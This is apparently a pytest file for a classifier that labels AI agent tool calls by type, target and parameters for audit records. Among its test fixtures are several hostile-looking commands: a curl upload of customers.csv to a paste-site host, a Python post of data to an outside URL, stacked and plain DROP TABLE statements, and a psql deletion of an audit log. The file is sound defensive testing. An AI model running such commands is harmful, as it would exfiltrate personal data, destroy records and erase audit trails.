"""Tool calls classified as a person would: type, target and parameters from name and argument preview.

Previews are made the way the runtimes make them: ``str(args)[:200]`` (the
Python runtime) or ``json.dumps(args)[:200]`` (JSON-emitting ports).
"""

from __future__ import annotations

import json
import re
import sys
import threading
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditspan.classification import (
    Classification,
    ClassificationRule,
    Classifier,
    ConfigError,
    load_classification_rules,
)
from auditspan.classification._arguments import _STRING_LITERAL

DATA = Path(__file__).parents[2] / "data" / "rules"


def py(args: Any) -> str:
    """The Python runtime's preview: ``str(args)`` cut to 200 characters."""
    return str(args)[:200]


def js(args: Any) -> str:
    """A JSON runtime's preview, cut to 200 characters."""
    return json.dumps(args)[:200]


LONG_SQL = (
    "SELECT c.id, c.email, c.phone, c.date_of_birth, a.street, a.city, a.postcode "
    "FROM customers.pii_emails c JOIN customers.addresses a ON a.customer_id = c.id "
    "WHERE c.created_at > now() - interval '30 days' ORDER BY c.created_at DESC LIMIT 500"
)

# (tool name, preview, expected type, expected target)
REALISTIC = [
    # databases
    (
        "run_sql",
        py({"query": "SELECT email FROM customers.pii_emails WHERE id = 7"}),
        "DATABASE_READ",
        "customers.pii_emails",
    ),
    ("run_sql", py({"query": LONG_SQL}), "DATABASE_READ", "customers.pii_emails"),
    (
        "execute_query",
        py({"sql": "UPDATE orders SET status = 'shipped' WHERE id = 42"}),
        "DATABASE_WRITE",
        "orders",
    ),
    (
        "query_database",
        py({"sql": "DELETE FROM sessions WHERE user_id = 'u1'"}),
        "DATABASE_WRITE",
        "sessions",
    ),
    (
        "db_query",
        js(
            {
                "query": "WITH recent AS (SELECT * FROM analytics.events WHERE ts > 1) "
                "SELECT count(*) FROM recent"
            }
        ),
        "DATABASE_READ",
        "analytics.events",
    ),
    (
        "postgres_execute",
        py({"statement": "CREATE TABLE IF NOT EXISTS audit.tmp_export (id int)"}),
        "DATABASE_WRITE",
        "audit.tmp_export",
    ),
    ("sqlite_exec", py({"sql": "DROP TABLE users"}), "DATABASE_WRITE", "users"),
    ("run_sql", py({"query": "SHOW TABLES"}), "DATABASE_READ", None),
    (
        "run_sql",
        py({"query": 'select id from "Sales"."Invoices" i join crm.accounts a on a.id = i.account_id'}),
        "DATABASE_READ",
        "Sales.Invoices",
    ),
    (
        "snowflake_query",
        py({"query": "MERGE INTO dw.customers t USING staging.customers s ON t.id = s.id"}),
        "DATABASE_WRITE",
        "dw.customers",
    ),
    (
        "run_sql",
        py({"query": "BEGIN; INSERT INTO ledger.entries (amount) VALUES (10); COMMIT;"}),
        "DATABASE_WRITE",
        "ledger.entries",
    ),
    ("run_sql", py({"query": "SELECT 1; DROP TABLE accounts"}), "DATABASE_WRITE", "accounts"),
    ("mongo_find", py({"collection": "users", "filter": {"age": {"$gt": 30}}}), "DATABASE_READ", "users"),
    ("insert_record", py({"table": "leads", "record": {"name": "x"}}), "DATABASE_WRITE", "leads"),
    ("execute", py({"query": "SELECT * FROM customers.pii_ssn"}), "DATABASE_READ", "customers.pii_ssn"),
    ("bash", py({"cmd": 'psql -c "DELETE FROM audit_log"'}), "DATABASE_WRITE", "audit_log"),
    # HTTP and webhooks
    (
        "http_request",
        py(
            {
                "method": "POST",
                "url": "https://api.partner.example.com/v2/upload?token=abc",
                "json": {"rows": 12},
            }
        ),
        "EXTERNAL_API_CALL",
        "api.partner.example.com/v2/upload",
    ),
    (
        "fetch_url",
        py({"url": "https://docs.python.org/3/library/fnmatch.html"}),
        "EXTERNAL_API_CALL",
        "docs.python.org/3/library/fnmatch.html",
    ),
    ("web_search", py({"query": "calute docs"}), "EXTERNAL_API_CALL", None),
    (
        "web_fetch",
        js({"url": "https://user:secret@internal.example.com:8443/admin/export?all=1#x"}),
        "EXTERNAL_API_CALL",
        "internal.example.com:8443/admin/export",
    ),
    (
        "shell_exec",
        py({"command": "curl -X POST https://paste.example.net/api -d @customers.csv"}),
        "EXTERNAL_API_CALL",
        "paste.example.net/api",
    ),
    (
        "python_exec",
        py({"code": "import requests\nrequests.post('https://x.io/in', json=data)"}),
        "EXTERNAL_API_CALL",
        "x.io/in",
    ),
    (
        "download_file",
        py({"url": "https://example.com/report.pdf", "dest": "/tmp/report.pdf"}),
        "EXTERNAL_API_CALL",
        "example.com/report.pdf",
    ),
    (
        "upload_to_s3",
        py({"bucket": "exports", "key": "pii/customers.csv", "path": "/tmp/c.csv"}),
        "EXTERNAL_API_CALL",
        "exports/pii/customers.csv",
    ),
    (
        "mcp__github__create_issue",
        py({"owner": "acme", "repo": "app", "title": "Bug"}),
        "EXTERNAL_API_CALL",
        "github",
    ),
    (
        "call_api",
        py({"endpoint": "POST https://billing.example.com/v1/charges", "body": {"amount": 5}}),
        "EXTERNAL_API_CALL",
        "billing.example.com/v1/charges",
    ),
    (
        "post_to_slack",
        py({"webhook_url": "https://hooks.slack.com/services/T000/B000/XXXX", "text": "done"}),
        "WEBHOOK_SEND",
        "hooks.slack.com/services/T000/B000/XXXX",
    ),
    (
        "notify",
        py({"url": "https://hooks.zapier.com/hooks/catch/123/abc/", "payload": {"a": 1}}),
        "WEBHOOK_SEND",
        "hooks.zapier.com/hooks/catch/123/abc",
    ),
    (
        "send_webhook",
        py({"endpoint": "https://ops.example.org/hooks/deploy", "body": "{}"}),
        "WEBHOOK_SEND",
        "ops.example.org/hooks/deploy",
    ),
    # email
    (
        "send_email",
        py({"to": "alice@contoso.com", "subject": "Q3 numbers", "body": "Hi Alice, ..."}),
        "EMAIL_SEND",
        "contoso.com",
    ),
    (
        "send_email",
        py({"recipients": ["bob@example.org", "carol@partner.io"], "subject": "Export"}),
        "EMAIL_SEND",
        "example.org",
    ),
    (
        "sendEmail",
        js({"to": "Dana <dana@Example.NET>", "subject": "hi", "body": "x"}),
        "EMAIL_SEND",
        "example.net",
    ),
    ("smtp_deliver", py({"to": "ops@corp.example", "body": "report"}), "EMAIL_SEND", "corp.example"),
    # queues
    (
        "kafka_produce",
        py({"topic": "orders.created", "value": '{"id": 1}'}),
        "MESSAGE_QUEUE_SEND",
        "orders.created",
    ),
    (
        "sqs_receive_message",
        py({"queue_url": "https://sqs.us-east-1.amazonaws.com/123456789012/jobs"}),
        "MESSAGE_QUEUE_RECEIVE",
        "jobs",
    ),
    (
        "publish_event",
        py({"topic": "user.signup", "payload": {"id": 7}}),
        "MESSAGE_QUEUE_SEND",
        "user.signup",
    ),
    ("rabbitmq_consume", py({"queue": "emails"}), "MESSAGE_QUEUE_RECEIVE", "emails"),
    ("enqueue_job", py({"queue": "default", "job": "reindex"}), "MESSAGE_QUEUE_SEND", "default"),
    # caches
    ("redis_get", py({"key": "session:42"}), "CACHE_READ", "session:42"),
    ("cache_set", py({"key": "weather:paris", "value": "21C", "ttl": 600}), "CACHE_WRITE", "weather:paris"),
    ("redis", py({"command": "SET user:1 alice"}), "CACHE_WRITE", "user:1"),
    ("memcached_delete", py({"key": "k"}), "CACHE_WRITE", "k"),
    # files
    ("read_file", py({"path": "/etc/app/config.yaml"}), "FILE_READ", "/etc/app/config.yaml"),
    ("write_file", py({"path": "reports/q3.md", "content": "# Q3 ..."}), "FILE_WRITE", "reports/q3.md"),
    ("open", py({"file": "out.csv", "mode": "a"}), "FILE_WRITE", "out.csv"),
    ("open_file", py({"path": "data.csv", "mode": "r"}), "FILE_READ", "data.csv"),
    ("open_file", py({"path": "data.csv", "mode": "r+"}), "FILE_WRITE", "data.csv"),
    ("list_directory", py({"path": "/home/agent/workspace"}), "FILE_READ", "/home/agent/workspace"),
    ("delete_file", py({"path": "/tmp/x.txt"}), "FILE_WRITE", "/tmp/x.txt"),
    (
        "str_replace_based_edit_tool",
        py({"command": "view", "path": "/repo/src/app.py"}),
        "FILE_READ",
        "/repo/src/app.py",
    ),
    (
        "str_replace_based_edit_tool",
        py({"command": "str_replace", "path": "/repo/src/app.py", "old_str": "a"}),
        "FILE_WRITE",
        "/repo/src/app.py",
    ),
    # LLMs
    (
        "llm_complete",
        py({"model": "gpt-4o", "messages": [{"role": "user", "content": "Summarize"}]}),
        "LLM_CALL",
        "gpt-4o",
    ),
    (
        "invoke",
        py({"model": "claude-sonnet", "messages": [{"role": "user", "content": "hi"}]}),
        "LLM_CALL",
        "claude-sonnet",
    ),
    (
        "embed_text",
        py({"model": "text-embedding-3-small", "input": ["a", "b"]}),
        "LLM_EMBEDDING",
        "text-embedding-3-small",
    ),
    ("create_embeddings", py({"texts": ["hello"]}), "LLM_EMBEDDING", None),
    # auth
    ("get_access_token", py({"client_id": "abc", "scope": "read"}), "AUTH_REQUEST", None),
    ("login", py({"username": "agent", "password": "***"}), "AUTH_REQUEST", None),
    (
        "oauth_authorize",
        py({"url": "https://login.example.com/oauth2/authorize"}),
        "AUTH_REQUEST",
        "login.example.com/oauth2/authorize",
    ),
    ("check_permission", py({"user": "u1", "resource": "doc:1"}), "AUTH_REQUEST", None),
    # workflow and agent
    ("start_workflow", py({"workflow": "nightly-etl"}), "WORKFLOW_START", None),
    ("set_goal", py({"goal": "Reduce churn"}), "AGENT_GOAL_SET", None),
    ("update_goal", py({"goal": "Reduce churn by 5%"}), "AGENT_GOAL_UPDATE", None),
    ("make_decision", py({"options": ["a", "b"]}), "AGENT_DECISION", None),
    # nothing recognisable
    ("calculator", py({"expression": "2+2"}), "AGENT_ACTION", None),
    ("get_weather", py({"city": "Paris"}), "AGENT_ACTION", None),
]


@pytest.mark.parametrize(("tool", "preview", "expected_type", "expected_target"), REALISTIC)
def test_realistic_calls(tool: str, preview: str, expected_type: str, expected_target: str | None) -> None:
    c = Classifier().classify(tool, preview)
    assert (c.type, c.target) == (expected_type, expected_target)
    assert c.source == ("fallback" if expected_type == "AGENT_ACTION" else "heuristic")


def test_the_table_is_realistic_in_size() -> None:
    assert len(REALISTIC) >= 40
    assert len({row[2] for row in REALISTIC}) >= 18  # most seed types are exercised


# Look-alikes: a person would not call these database writes, web calls, emails ...
LOOK_ALIKES = [
    ("select_best_answer", py({"answers": ["a", "b", "c"]})),
    (
        "summarize",
        py({"text": "Please delete from the list any duplicates and update the table of contents."}),
    ),
    ("summarize", py({"text": "DELETE FROM users WHERE 1=1"})),
    ("run_query", py({"query": "select the best option from the list"})),
    ("format_sql", py({"sql": "SELECT * FROM t"})),
    ("explain_query", py({"sql": "DELETE FROM t"})),
    ("parse_url", py({"url": "https://a.example/c"})),
    ("validate_email", py({"email": "alice@contoso.com"})),
    ("count_tokens", py({"text": "hello world"})),
    ("drop_duplicates", py({"column": "id"})),
    ("create_table_of_contents", py({"doc": "x"})),
    ("select_model", py({"task": "x"})),
    ("render_table", py({"table": [[1, 2]]})),
    ("get_news", py({"topic": "sports"})),
    ("translate_text", py({"text": "See https://example.com for details", "target_lang": "fr"})),
    ("note_taker", py({"note": "remember to email alice@x.com and update the table"})),
    ("shell_exec", py({"command": "ls -la /tmp"})),
    ("search_documents", py({"query": "vacation policy"})),
]


@pytest.mark.parametrize(("tool", "preview"), LOOK_ALIKES)
def test_look_alikes_stay_agent_actions(tool: str, preview: str) -> None:
    c = Classifier().classify(tool, preview)
    assert c.type == "AGENT_ACTION"
    assert c.custom_type == tool
    assert dict(c.parameters) == {"custom_type": tool}
    assert c.source == "fallback"
    assert c.risk == "Variable"


@pytest.mark.parametrize(
    ("tool", "preview", "expected"),
    [
        # prose that merely talks about SQL or selection, handed to a web or LLM tool, keeps that tool's type
        (
            "web_search",
            js({"query": "Select the best laptop from the list of 2026 models"}),
            "EXTERNAL_API_CALL",
        ),
        ("web_search", py({"query": "SELECT statement FROM clause explained"}), "EXTERNAL_API_CALL"),
        ("ask_llm", py({"prompt": "Select the best answer from the list below"}), "LLM_CALL"),
        (
            "call_model",
            py({"model": "m", "messages": [{"role": "user", "content": "DELETE FROM x"}]}),
            "LLM_CALL",
        ),
        ("update_goal", py({"goal": "UPDATE customers SET churn = 0"}), "AGENT_GOAL_UPDATE"),
    ],
)
def test_prose_does_not_change_the_type(tool: str, preview: str, expected: str) -> None:
    assert Classifier().classify(tool, preview).type == expected


def test_parameters_reveal_what_the_arguments_show() -> None:
    c = Classifier()
    sql = c.classify("run_sql", py({"query": LONG_SQL}))
    assert dict(sql.parameters) == {
        "operation": "select",
        "table": "customers.pii_emails",
        "tables": ("customers.pii_emails", "customers.addresses"),
    }
    http = c.classify("http_request", py({"method": "post", "url": "https://api.example.com/v1/x?k=secret"}))
    assert dict(http.parameters) == {"method": "POST", "host": "api.example.com"}
    assert "secret" not in json.dumps(http.to_record_fields())
    mail = c.classify("send_email", py({"to": ["a@x.org", "b@y.org", "c@x.org"], "subject": "s"}))
    assert dict(mail.parameters) == {"recipient_count": 3, "recipient_domains": ("x.org", "y.org")}
    opened = c.classify("open", py({"file": "/var/log/app.log", "mode": "ab"}))
    assert dict(opened.parameters) == {"operation": "open", "mode": "ab", "path": "/var/log/app.log"}
    unknown = c.classify("run_sql", "")
    assert (unknown.type, dict(unknown.parameters)) == ("DATABASE_WRITE", {"operation": "unknown"})


def test_truncated_preview_still_classifies() -> None:
    preview = py({"query": LONG_SQL})
    assert len(preview) == 200 and not preview.endswith("}")
    truncated_url = js({"url": "https://api.example.com/" + "a" * 300})
    c = Classifier().classify("http_get", truncated_url)
    assert c.type == "EXTERNAL_API_CALL"
    assert c.target is not None and c.target.startswith("api.example.com/aaa")
    assert c.parameters["method"] == "GET"


def test_risk_and_category_come_from_the_seed() -> None:
    c = Classifier().classify("run_sql", py({"query": "DELETE FROM t"}))
    assert (c.type, c.risk, c.category) == ("DATABASE_WRITE", "Medium-High", "Data")


# --------------------------------------------------------------------------- explicit metadata


def test_explicit_type_wins_and_still_derives_the_target() -> None:
    c = Classifier().classify(
        "mystery_tool", py({"q": "SELECT * FROM hr.pii_salaries"}), {"operation_type": "database_read"}
    )
    assert (c.type, c.target, c.source) == ("DATABASE_READ", "hr.pii_salaries", "explicit")
    assert c.custom_type is None


def test_explicit_agent_action_with_custom_type() -> None:
    metadata = {"operation_type": "AGENT_ACTION", "custom_type": "payment_processing", "amount": 99.99}
    c = Classifier().classify("charge_card", py({"amount": 99.99}), metadata)
    assert (c.type, c.custom_type, c.source) == ("AGENT_ACTION", "payment_processing", "explicit")
    assert dict(c.parameters) == {"custom_type": "payment_processing"}


def test_custom_type_alone_means_agent_action() -> None:
    c = Classifier().classify("run_sql", py({"query": "SELECT 1 FROM t"}), {"custom_type": "report"})
    assert (c.type, c.custom_type, c.source) == ("AGENT_ACTION", "report", "explicit")


def test_explicit_unknown_type_is_kept() -> None:
    c = Classifier().classify("vec", "", {"operation_type": "vector-search"})
    assert (c.type, c.risk, c.category, c.source) == ("VECTOR_SEARCH", None, None, "explicit")


def test_explicit_target_overrides() -> None:
    c = Classifier().classify("x", "", {"operation_type": "EXTERNAL_API_CALL", "target": "partner-api"})
    assert (c.type, c.target) == ("EXTERNAL_API_CALL", "partner-api")


def test_cache_keys_hold_what_the_metadata_decides() -> None:
    classifier = Classifier()
    preview = py({"query": "SELECT * FROM a.b"})
    first = classifier.classify("run_sql", preview, {"tool_call_id": "c1"})
    assert classifier.classify("run_sql", preview, {"tool_call_id": "c2"}) is first
    assert classifier.cache_info()["size"] == 1
    explicit = classifier.classify("run_sql", preview, {"operation_type": "FILE_READ", "tool_call_id": "c3"})
    assert explicit.type == "FILE_READ"
    assert classifier.classify("run_sql", preview, {"operation_type": "file_read"}) is explicit
    other = classifier.classify("run_sql", preview, {"operation_type": "FILE_READ", "target": "/x"})
    assert (other.type, other.target) == ("FILE_READ", "/x")
    custom = classifier.classify("run_sql", preview, {"operation_type": "AGENT_ACTION", "custom_type": "c"})
    assert custom.custom_type == "c"
    assert (
        classifier.classify("run_sql", preview, {"operation_type": "AGENT_ACTION"}).custom_type == "run_sql"
    )
    assert classifier.classify("run_sql", preview).type == "DATABASE_READ"
    assert classifier.cache_info()["size"] == 5


@pytest.mark.parametrize("operation_type", [None, "", "   ", 7, ["DATABASE_READ"]])
def test_unusable_explicit_types_fall_through(operation_type: object) -> None:
    c = Classifier().classify("redis_get", py({"key": "k"}), {"operation_type": operation_type})
    if isinstance(operation_type, (int, list)):
        # a non-string is read through str(): kept, never dropped
        assert c.source == "explicit"
    else:
        assert (c.type, c.source) == ("CACHE_READ", "heuristic")


# --------------------------------------------------------------------------- rules


def test_rules_come_before_heuristics_and_the_first_match_wins() -> None:
    classifier = Classifier(
        [
            ClassificationRule("CRM_*", "external_api_call", target="crm.example.com"),
            ClassificationRule("crm_lookup", "DATABASE_READ"),
            ClassificationRule("run_sql", "DATABASE_READ", arguments=r"(?i)\bpii_"),
            ClassificationRule("charge_*", "AGENT_ACTION", custom_type="payment_processing"),
            ClassificationRule("legacy_*", "AGENT_ACTION"),
        ]
    )
    crm = classifier.classify("crm_lookup", py({"id": 7}))
    assert (crm.type, crm.target, crm.source) == ("EXTERNAL_API_CALL", "crm.example.com", "rule")
    pii = classifier.classify("run_sql", py({"query": "SELECT * FROM s.pii_x"}))
    assert (pii.type, pii.target, pii.source) == ("DATABASE_READ", "s.pii_x", "rule")
    other = classifier.classify("run_sql", py({"query": "DELETE FROM s.orders"}))
    assert (other.type, other.source) == ("DATABASE_WRITE", "heuristic")
    charge = classifier.classify("charge_card", py({"amount": 5}))
    assert (charge.type, charge.custom_type, charge.source) == ("AGENT_ACTION", "payment_processing", "rule")
    legacy = classifier.classify("legacy_sync", "")
    assert (legacy.custom_type, legacy.source) == ("legacy_sync", "rule")


@pytest.mark.parametrize(
    ("kwargs", "field"),
    [
        ({"tool": "", "type": "LLM_CALL"}, "tool"),
        ({"tool": "x", "type": "DATABSE_READ"}, "type"),
        ({"tool": "x", "type": "LLM_CALL", "custom_type": "c"}, "custom_type"),
        ({"tool": "x", "type": "LLM_CALL", "target": ""}, "target"),
        ({"tool": "x", "type": "LLM_CALL", "arguments": "("}, "arguments"),
    ],
)
def test_invalid_rules_name_the_field(kwargs: dict[str, Any], field: str) -> None:
    with pytest.raises(ValueError, match=f"field '{field}'"):
        ClassificationRule(**kwargs)


def test_from_yaml_file() -> None:
    classifier = Classifier.from_file(DATA / "classification.yaml")
    assert [r.tool for r in classifier.rules] == ["crm_*", "charge_card", "run_sql"]
    assert classifier.classify("crm_search", "").target == "crm.example.com"
    assert classifier.classify("charge_card", "").custom_type == "payment_processing"
    assert classifier.classify("run_sql", py({"query": "SELECT * FROM pii_emails"})).target == "pii-store"


def test_from_json_file() -> None:
    rules = load_classification_rules(DATA / "classification.json")
    assert [(r.tool, r.type, r.custom_type) for r in rules] == [
        ("crm_*", "EXTERNAL_API_CALL", None),
        ("charge_card", "AGENT_ACTION", "payment_processing"),
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "rules:\n  - tool: a\n    type: LLM_CALL\n  - tool: b\n    type: DATABSE_READ\n",
            r"<text>:5: rules\[1\]\.type: unknown operation type 'DATABSE_READ'",
        ),
        (
            "rules:\n  - tool: a\n    type: LLM_CALL\n    colour: red\n",
            r"<text>:4: rules\[0\]\.colour: unknown field",
        ),
        ("rules:\n  - type: LLM_CALL\n", r"<text>:2: rules\[0\]: missing field 'tool'"),
        (
            "rules:\n  - tool: a\n    type: LLM_CALL\n    arguments: '('\n",
            r"<text>:4: rules\[0\]\.arguments: ",
        ),
        ("rules:\n  - tool: [a\n", r"<text>:\d+: invalid YAML"),
        ("rules: 3\n", r"<text>:1: rules: expected a list of rules"),
        ("tools:\n  - tool: a\n", r"<text>:1: tools: unknown top-level key"),
    ],
)
def test_rule_file_errors_name_file_line_rule_and_field(text: str, expected: str) -> None:
    with pytest.raises(ConfigError, match=expected):
        load_classification_rules(text)


def test_errors_name_the_file(tmp_path: Path) -> None:
    bad = tmp_path / "rules.json"
    bad.write_text('{"rules": [{"tool": "a", "type": "NOPE"}]}', encoding="utf-8")
    with pytest.raises(ConfigError, match=r"rules\.json: rules\[0\]\.type: unknown operation type 'NOPE'"):
        Classifier.from_file(bad)
    broken = tmp_path / "broken.json"
    broken.write_text('{"rules": [\n{"tool": }]}', encoding="utf-8")
    with pytest.raises(ConfigError, match=r"broken\.json:2: invalid JSON"):
        Classifier.from_file(broken)
    with pytest.raises(ConfigError, match=r"missing\.yaml: no such file"):
        Classifier.from_file(str(tmp_path / "missing.yaml"))


def test_yaml_without_pyyaml_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "yaml", None)  # makes `import yaml` fail, as on a machine without it
    with pytest.raises(ConfigError, match=r"classification\.yaml: reading YAML needs PyYAML"):
        Classifier.from_file(DATA / "classification.yaml")
    assert len(Classifier.from_file(DATA / "classification.json").rules) == 2


def test_pyyaml_is_not_imported_by_the_module() -> None:
    code = "import sys, auditspan.classification, auditspan.rules; print('yaml' in sys.modules)"
    import subprocess

    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "False"


# --------------------------------------------------------------------------- cache, determinism, robustness


def test_cache_is_bounded_and_results_stay_right() -> None:
    classifier = Classifier(cache_size=8)
    for i in range(100):
        c = classifier.classify("run_sql", py({"query": f"SELECT * FROM s.t{i}"}))
        assert c.target == f"s.t{i}"
        assert classifier.cache_info()["size"] <= 8
    assert classifier.cache_info() == {"size": 8, "max_size": 8, "evictions": 92}
    classifier.clear_cache()
    assert classifier.cache_info()["size"] == 0


def test_a_full_cache_forgets_its_oldest_entry_first() -> None:
    classifier = Classifier(cache_size=3)
    first, *rest = [classifier.classify("run_sql", py({"query": f"SELECT 1 FROM t{i}"})) for i in range(4)]
    # The three latest are remembered (the same object comes back); the first was dropped.
    for i, result in enumerate(rest, start=1):
        assert classifier.classify("run_sql", py({"query": f"SELECT 1 FROM t{i}"})) is result
    again = classifier.classify("run_sql", py({"query": "SELECT 1 FROM t0"}))
    assert again == first and again is not first


def test_cached_and_uncached_agree_and_are_deterministic() -> None:
    cached, uncached = Classifier(), Classifier(cache_size=0)
    for tool, preview, *_ in REALISTIC + [(t, p) for t, p in LOOK_ALIKES]:
        first = cached.classify(tool, preview)
        assert cached.classify(tool, preview) is first
        assert uncached.classify(tool, preview) == first
    assert uncached.cache_info()["size"] == 0


def test_results_are_read_only_and_serialisable() -> None:
    c = Classifier().classify("send_email", py({"to": "a@b.org", "subject": "s"}))
    with pytest.raises(TypeError):
        c.parameters["x"] = 1  # type: ignore[index]
    fields = c.to_record_fields()
    fields["parameters"]["x"] = 1
    assert "x" not in c.parameters
    assert json.loads(json.dumps(fields))["parameters"]["recipient_domains"] == ["b.org"]


def test_concurrent_classification() -> None:
    classifier = Classifier(cache_size=16)
    expected = {(t, p): (ty, ta) for t, p, ty, ta in REALISTIC}
    errors: list[str] = []

    def work() -> None:
        for _ in range(5):
            for (tool, preview), want in expected.items():
                got = classifier.classify(tool, preview)
                if (got.type, got.target) != want:
                    errors.append(f"{tool}: {got.type} {got.target}")

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert classifier.cache_info()["size"] <= 16


class _HostileMapping(Mapping[str, Any]):
    def __getitem__(self, key: str) -> Any:
        raise RuntimeError("boom")

    def __iter__(self) -> Any:
        return iter(["operation_type"])

    def __len__(self) -> int:
        return 1


class _HostileStr:
    def __str__(self) -> str:
        raise RuntimeError("boom")


def test_hostile_inputs_give_the_fallback() -> None:
    c = Classifier().classify("tool", "", _HostileMapping())
    assert (c.type, c.custom_type, c.source) == ("AGENT_ACTION", "tool", "fallback")
    weird = Classifier().classify(_HostileStr(), _HostileStr())  # type: ignore[arg-type]
    assert weird.type == "AGENT_ACTION"
    assert Classifier().classify(None, None, None).type == "AGENT_ACTION"  # type: ignore[arg-type]


_JSONISH = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=10,
)


@settings(max_examples=300)
@given(st.text(max_size=40), st.text(max_size=250))
def test_never_raises_on_any_text(tool: str, preview: str) -> None:
    c = Classifier().classify(tool, preview)
    assert isinstance(c, Classification)
    assert isinstance(c.type, str) and c.type
    assert c.source in ("heuristic", "fallback")
    assert (c.custom_type is not None) == (c.type == "AGENT_ACTION")


@settings(max_examples=300)
@given(
    st.sampled_from(["run_sql", "send_email", "http_request", "open", "redis", "kafka_produce", "x"]),
    _JSONISH,
    st.booleans(),
)
def test_never_raises_on_runtime_like_previews(tool: str, args: Any, as_json: bool) -> None:
    preview = js(args) if as_json else py(args)
    c = Classifier().classify(tool, preview)
    assert c == Classifier(cache_size=0).classify(tool, preview)
    json.dumps(c.to_record_fields())


@settings(max_examples=500)
@given(st.text(alphabet="ab'\"\\:[]{} ,_\n1\u00e9", max_size=40))
def test_the_string_literal_pattern_reads_what_its_plain_definition_reads(text: str) -> None:
    """The unrolled-loop form the classifier uses finds the same literals as the per-character one."""
    plain = re.compile(r"""'(?:[^'\\]|\\.)*(?:'|\Z)|"(?:[^"\\]|\\.)*(?:"|\Z)""", re.S)
    used = re.compile(_STRING_LITERAL, re.S)
    assert [m.span() for m in used.finditer(text)] == [m.span() for m in plain.finditer(text)]


@given(st.one_of(st.none(), st.integers(), st.text(max_size=10), st.binary(max_size=10)), _JSONISH, _JSONISH)
def test_never_raises_on_any_types(tool: Any, preview: Any, metadata: Any) -> None:
    c = Classifier().classify(tool, preview, metadata)
    assert isinstance(c, Classification)
